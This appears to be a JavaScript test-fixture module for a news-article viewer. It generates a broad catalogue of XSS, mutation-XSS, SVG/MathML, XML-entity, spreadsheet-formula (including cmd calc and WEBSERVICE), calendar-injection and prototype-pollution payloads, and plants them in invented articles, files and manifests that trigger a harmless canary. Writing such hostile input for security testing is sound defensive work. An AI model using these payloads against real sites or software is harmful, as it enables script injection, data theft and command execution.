// What somebody might put into an article to have a reader's browser run or fetch something. All of it calls `__pwned` or
// asks for a canary address: on the page's own origin, which every policy allows, and on another one.

/** @typedef {import("../desk.js").Article} Article */
/** @typedef {{here: string, there: string}} Canaries addresses that end in a slash; nobody may ask for what is below them */

/**
 * @param {Canaries} canaries
 * @returns {Record<string, string>} attacks by name
 */
export const attacks = ({ here, there }) => ({
  // Scripts, in every way to write them.
  script: `<script>__pwned("script")</script><script src="${here}script.js"></script><script src="${there}script.js"></script>`,
  module: `<script type="module">import "${here}module.js"; __pwned("module")</script><link rel="modulepreload" href="${here}preload.js">`,
  'import map': `<script type="importmap">{"imports": {"./nut-graf.js": "${here}map.js"}}</script><script type="speculationrules">{"prefetch": [{"urls": ["${here}rules"]}]}</script>`,
  unclosed: `<script>__pwned("unclosed")//`,
  'closes first': `--></title></style></textarea></noscript></template></xmp></script><script>__pwned("closes")</script>`,
  'cdata': `<![CDATA[><script>__pwned("cdata")</script>]]><?php echo 1 ?><!--[if IE]><script>__pwned("if")</script><![endif]-->`,
  'no slash': `<script/x>__pwned("slash")</script/x><SCRIPT\n>__pwned("line")</SCRIPT\n><scr<script>ipt>__pwned("nested")</scr</script>ipt>`,

  // Handlers.
  image: `"><img src="${here}image.png" onload=__pwned("load")><img src=x: onerror=__pwned("error")>'><img src=x: onerror='__pwned("quote")'>`,
  handlers: `<body onload=__pwned(1)><input autofocus onfocus=__pwned(2)><details open ontoggle=__pwned(3)>x</details><marquee onstart=__pwned(4)>x</marquee><p style="animation: x 1s" onanimationstart=__pwned(5) onpointerover=__pwned(6)>x</p>`,
  attribute: `" onclick="__pwned(1)" onpointerover="__pwned(2)" autofocus onfocus="__pwned(3)" x="`,
  'single quoted': `' onclick='__pwned(1)' onfocus='__pwned(2)' autofocus tabindex='0`,
  'back ticks': '` onclick=`__pwned(1)` ${__pwned(2)} {{constructor.constructor("__pwned(3)")()}} <%= __pwned(4) %> #{__pwned(5)}',
  form: `<form action="${here}form" onsubmit=__pwned(1)><button formaction="javascript:__pwned(2)">x</button><input type="image" src="${here}input.png"><input name="shadowRoot"></form>`,

  // Other languages inside HTML.
  svg: `<svg/onload=__pwned(1)><script>__pwned(2)</script><script href="${here}svg.js"/><image href="${here}svg.png"/><use href="${here}svg.svg#x"/><animate onbegin=__pwned(3) attributeName=x dur=1s /><a xlink:href="javascript:__pwned(4)"><text>x</text></a><foreignObject><img src=x: onerror=__pwned(5)></foreignObject></svg>`,
  math: `<math href="javascript:__pwned(1)"><mtext><img src=x: onerror=__pwned(2)></mtext><maction actiontype="statusline#${here}math" xlink:href="javascript:__pwned(3)">x</maction></math>`,
  template: `<template><script>__pwned(1)</script></template><template shadowrootmode="open"><img src="${here}shadow.png" onerror=__pwned(2)></template>`,
  xml: `<?xml version="1.0"?><?xml-stylesheet href="${here}xml.css"?><!DOCTYPE x [<!ENTITY % e SYSTEM "${here}entity.dtd"> %e; <!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">]><x xmlns="http://www.w3.org/1999/xhtml">&a;<script>__pwned("xml")</script></x>`,

  // What fetches.
  frames: `<iframe src="${here}frame.html"></iframe><iframe src="javascript:parent.__pwned(1)"></iframe><iframe srcdoc="<script>parent.__pwned(2)</script>"></iframe><frameset><frame src="${there}frame.html"></frameset><object data="${here}object.html"></object><embed src="${here}embed.html"><portal src="${here}portal"></portal><fencedframe></fencedframe>`,
  base: `<base href="${there}base/"><base target="_blank">`,
  refresh: `<meta http-equiv="refresh" content="0; url=${here}refresh"><meta http-equiv="refresh" content="0; url=javascript:__pwned(1)"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  links: `<link rel="stylesheet" href="${here}link.css"><link rel="icon" href="${here}icon.png"><link rel="preload" as="image" href="${here}preload.png"><link rel="prefetch" href="${there}prefetch"><link rel="preconnect" href="${there}"><link rel="dns-prefetch" href="${there}"><link rel="manifest" href="${here}manifest">`,
  style: `<style>@import url("${here}import.css"); * { background: url("${here}star.png") !important } nut-graf { display: none } @font-face { font-family: serif; src: url("${here}font.woff") }</style>`,
  'style attribute': `<p style="background: url(${here}style.png); list-style: url('${there}style.png'); width: expression(__pwned(1)); behavior: url(${here}x.htc); -moz-binding: url(${here}x.xml)">x</p>`,
  media: `<video src="${here}video.mp4" poster="${here}poster.png" autoplay></video><audio src="${here}audio.mp3" autoplay></audio><picture><source srcset="${here}source.png 1x"><img srcset="${here}set.png 1x"></picture><track src="${here}track.vtt"><table background="${here}table.png"><td background="${here}cell.png">`,
  elements: `<nut-graf src="${here}nut.json"></nut-graf><slot name="actions"></slot><x-y is="nut-graf" onclick=__pwned(1)></x-y><dialog open><button popovertarget="x" onclick=__pwned(2)></button></dialog><a href="${here}ping" ping="${here}ping">x</a><applet code="${here}x"></applet><bgsound src="${here}x"><keygen autofocus onfocus=__pwned(3)>`,
  clobbering: `<form id="desk"><input name="shadowRoot"><input name="reports"></form><a id="__troubles"></a><img name="getElementById"><a id="__pwned" href="${here}clobber"></a><form name="customElements"></form>`,

  // Strings that become another tree when they are parsed twice.
  'mutation, noscript': `<noscript><p title="</noscript><img src=x: onerror=__pwned(1)>"></noscript>`,
  'mutation, style': `<svg></p><style><a id="</style><img src=x: onerror=__pwned(1)>">`,
  'mutation, forms': `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=__pwned(1)>`,
  'mutation, table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=__pwned(1)&gt;">`,
  'mutation, comment': `<!--><img src=x: onerror=__pwned(1)>--><!--!><img src=x: onerror=__pwned(2)>--!><svg><desc><noembed></noembed><title><a rel="</title></desc><img src=x: onerror=__pwned(3)>">`,
  'mutation, raw text': `<xmp><p title="</xmp><img src=x: onerror=__pwned(1)>"></xmp><textarea><a title="</textarea><img src=x: onerror=__pwned(2)>"></textarea><plaintext><script>__pwned(3)</script>`,
  'mutation, select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=__pwned(1)>">`,
  escaped: `&lt;img src=x: onerror=__pwned(1)&gt; &amp;lt;script&amp;gt;__pwned(2)&amp;lt;/script&amp;gt; &#x3C;script&#x3E;__pwned(3)&#60/script&#62 \\u003cscript\\u003e__pwned(4)\\u003c/script\\u003e %3Cscript%3E__pwned(5)%3C/script%3E`,
  odd: `<img/src="x:"/onerror=__pwned(1)><scr\0ipt>__pwned(2)</scr\0ipt>＜script＞__pwned(3)＜/script＞ <img src=x:\u2028onerror=__pwned(4)> <\u200bscript>__pwned(5)</script> +ADw-script+AD4-__pwned(6)+ADw-/script+AD4-`,

  // Addresses.
  'script address': `javascript:__pwned(1)`,
  'script address, disguised': `\u0001 jAvA\tsCr\nipt:__pwned(1)//https://news.example/`,
  'data address': `data:text/html,<script>opener.__pwned(1)</script>`,
  'other addresses': `vbscript:__pwned(1) blob:${here}x file:///etc/passwd view-source:${here} ${there}plain //${new URL(there).host}/x`,
  'address that ends': `https://news.example/> <img src=${here}url.png onerror=__pwned(1)> <`,
  'address of a user': `https://news.example:pass@${new URL(there).host}/?a=1&b=2#x)[y](javascript:__pwned(1)`,

  // What other programs run.
  markdown: `![x](${here}md.png) [x](javascript:__pwned(1)) <javascript:__pwned(2)> ${here}auto www.there.example **b** _i_ \`c\` | a | b | ~~s~~ [^1] <b>html</b>`,
  'markdown blocks': `x\n\n# Heading\n\n\`\`\`\nfence\n\n> said\n\n- item\n1. item\n\n| a | b |\n|---|---|\n\n[x]: ${here}ref "t"\n\n<details open ontoggle=__pwned(1)>\n\nSetext\n===\n\n***\n`,
  formula: `=HYPERLINK("${here}csv","x")`,
  'other formulas': `\t@SUM(1+1)*cmd|' /C calc'!A0;=1+1;"=2+2"; +3;\u200b-4;\n=WEBSERVICE("${there}")`,
  'full-width formula': `＝1+1;＋1;－1;＠x`,
  calendar: `x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH;FMTTYPE=text/html:${here}ics\r\nEND:VALARM\r\nBEGIN:VEVENT\r\nUID:d1@nutgraf\r\nDTSTART:20310101T000000Z`,
  'calendar, escapes': `a\\nb\\;c\\\\,d;e,f:g"h\u2028ATTACH:${here}ics`,
  address: `#nutgraf=a:0-5~0 ?src=${here}query :0-1,2-3~abc %00%ff`,

  // Characters.
  bidi: `\u202e)1(denwp__\u202c \u2066\u2067\u2068x\u2069 \u200e\u200f\u061c safe.txt\u202egpj.exe`,
  'zero width': `A\u200bd\u200ca\u200d \u2060R\ufeffo\u00ade \u180e\u034f\ufe0f\u{e0001}\u{e0041}`,
  surrogates: `\ud800 A\udc00da \udfff<img src=x: onerror=__pwned(1)>\ud83d`,
  nulls: `\0 A\0da \u0001\u0008\u000b\u000c\u001b[31m\u007f\u0085 <img\0src=x: onerror=__pwned(1)>`,
  'look-alikes': `Аdа Rое (Cyrillic), Αda Rοe (Greek), Ａｄａ Ｒｏｅ, 𝐀𝐝𝐚 𝐑𝐨𝐞, Ada Roe`,
  'marks on marks': `Z${'\u0300\u0489'.repeat(500)}a`,
});

/** Names that every object has already. */
const INHERITED = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then', 'length', 'undefined', 'null'];

/**
 * An invented story around an attack: the attack stands in a quote, a name, a deadline, a role and a headline.
 * @param {string} attack
 * @param {number} n
 */
const story = (attack, n) => `Council ${attack} shuts the bridge

KARLSUND — The bridge over the Ness will be shut to lorries, the council said on Tuesday.

“It has carried us for ${n + 20} years ${attack} and it is tired,” said Mayor Ilka Stromm, the head of the ${attack} board.

Bo ${attack} Lind, an engineer of the ${attack} Works, said that “nobody ${attack} should drive over it”. Ada Roe and Аda Roe disagree, a spokesman of Constructor Ltd said.

The council gave the ${attack} hauliers until Friday to find ${attack} another road. Otherwise they will be fined ${n + 100} crowns.
`;

/**
 * @param {string} attack
 * @param {number} n
 */
const page = (attack, n) => `<!doctype html><html><head><title>${attack}</title><meta property="og:site_name" content="${attack}"><meta name="author" content="${attack}">
<meta property="article:published_time" content="2031-03-11"></head><body ${attack}><article><h1>Council ${attack} shuts the bridge</h1>${story(attack, n).split('\n\n').slice(1).map((p) => `<p title="${attack}">${p}</p>`).join('\n')}</article></body></html>`;

/**
 * Articles that are made of nothing but attacks: each attack stands in every field, in a text or in HTML by turns.
 * @param {Canaries} canaries
 * @param {0 | 1} turn with 1, what was text is HTML and the other way round
 * @returns {Article[]}
 */
export function articles(canaries, turn) {
  const made = Object.values(attacks(canaries)).map((attack, n) => {
    const about = { title: attack, outlet: attack, url: attack, ...(n % 3 === 0 ? {} : { date: n % 3 === 1 ? "2031-03-11" : attack }) };
    return n % 2 === turn ? { id: `${attack}#:${n}`, text: story(attack, n), ...about } : { id: `page ${n}: ${attack}`, html: page(attack, n), ...about };
  });
  return [...made, ...INHERITED.map((name) => ({ id: name, title: name, outlet: name, text: story(name, 1), date: "2031-03-11" }))];
}

/**
 * Single tokens and attributes of a million characters, and elements within elements.
 * @param {Canaries} canaries
 * @returns {Article[]}
 */
export function huge({ here }) {
  const token = "x".repeat(1_000_000);
  return [
    { id: "token", text: `“We ${token} wait,” said Bo Lind.`, date: "2031-03-11" },
    { id: "marks", text: `Bo Lind said: ${"“".repeat(25_000)}${"<".repeat(25_000)}${"&".repeat(25_000)}${"\u202e".repeat(25_000)}` },
    { id: "attribute", html: `<article><p title="${token}" onclick="__pwned('${token}')">“We wait,” said Bo Lind.</p><img src="${here}${token}">` },
    { id: "deep", html: `${"<div><b>".repeat(50_000)}“We wait,” said Bo Lind.<script>__pwned("deep")</script>` },
    { id: "title", title: token, outlet: token, text: "“We wait,” said Bo Lind." },
  ];
}

/**
 * The same as files of every kind that the element reads, some under names that are attacks as well.
 * @param {Canaries} canaries
 * @returns {{name: string, text: string}[]}
 */
export function files(canaries) {
  const all = Object.entries(attacks(canaries));
  const named = /** @type {const} */ (['txt', 'html', 'md', 'xhtml']);
  const plain = all.map(([name, attack], n) => {
    const ending = named[n % named.length] ?? 'txt';
    const text = ending.endsWith('html') ? page(attack, n) : story(attack, n);
    // A file with a NUL is told as binary; the other files do not care.
    return { name: `${n % 2 === 0 ? attack.replaceAll('/', '∕') : name} ${n}.${ending}`, text };
  });
  const rows = all.map(([, attack], n) => JSON.stringify({ id: `${attack} line`, title: attack, outlet: attack, url: attack, text: story(attack, n), ['__proto__']: attack, [attack]: attack }));
  const inherited = INHERITED.map((name) => `{"id": ${JSON.stringify(name)}, "text": "“One,” said Bo Lind.", "__proto__": {"html": "<img src=x: onerror=__pwned(1)>", "polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}`);
  return [
    ...plain,
    { name: 'lines<img src=x: onerror=__pwned(1)>.jsonl', text: [...rows, ...inherited, '{"id": "<script>__pwned(1)</script>"}', '<script>__pwned(2)</script>'].join('\n') },
    { name: 'list.json', text: JSON.stringify({ articles: all.map(([, attack], n) => ({ id: `${attack} item`, html: page(attack, n) })), corrections: corrections(canaries) }) },
    { name: '"><script>__pwned(1)</script>.json', text: '{"articles": [{"id": "<img src=x: onerror=__pwned(1)>", "text": 5}, 7, null], "corrections": [{"op": "<script>"}]}' },
    { name: 'corrections.json', text: JSON.stringify({ corrections: corrections(canaries) }) },
  ];
}

/**
 * Corrections of nobody, and of names that every object has; those of somebody are made in the page.
 * @param {Canaries} canaries
 */
export function corrections(canaries) {
  return [...Object.values(attacks(canaries)), ...INHERITED].flatMap((attack) => [
    { op: 'rename', entity: attack, name: attack }, { op: 'merge', entity: attack, with: [attack] },
    { op: 'split', entity: attack, names: [attack] }, { op: 'delete', entity: attack },
  ]);
}

/**
 * A manifest that gives files every attack for their id, title, outlet, address and date.
 * @param {Canaries} canaries
 * @param {readonly string[]} names of files beside it
 */
export function manifest(canaries, names) {
  const all = Object.values(attacks(canaries));
  return JSON.stringify({ articles: names.map((file, n) => {
    const attack = all[n % all.length] ?? "";
    return { file, id: attack, title: attack, outlet: attack, url: attack, date: attack };
  }) });
}

/**
 * A manifest of what is none of its files: addresses that are attacks, other origins, itself.
 * @param {Canaries} canaries
 * @param {string} name its own
 */
export function elsewhere(canaries, name) {
  const addresses = Object.values(attacks(canaries)).filter((attack) => /^(?:javascript|data|vbscript):/.test(attack));
  const others = [`${canaries.there}entry.txt`, `//${new URL(canaries.there).host}/entry.txt`, `blob:${canaries.there}entry`, name];
  return JSON.stringify({ articles: [...addresses, ...others].map((file) => ({ file })) });
}

/**
 * A file of a workspace as it might be sent to somebody.
 * @param {Canaries} canaries
 */
export function workspace(canaries) {
  const all = Object.values(attacks(canaries));
  return `{"nutgraf": "workspace", "version": 1, "__proto__": {"polluted": 1}, "name": ${JSON.stringify(all.join(' ').slice(0, 150))},
    "articles": ${JSON.stringify(articles(canaries, 1))}, "corrections": ${JSON.stringify(corrections(canaries))},
    "brought": ${JSON.stringify(all)}, "extra": {"__proto__": {"polluted": 1}, "view": ${JSON.stringify(all[0])}}}`;
}
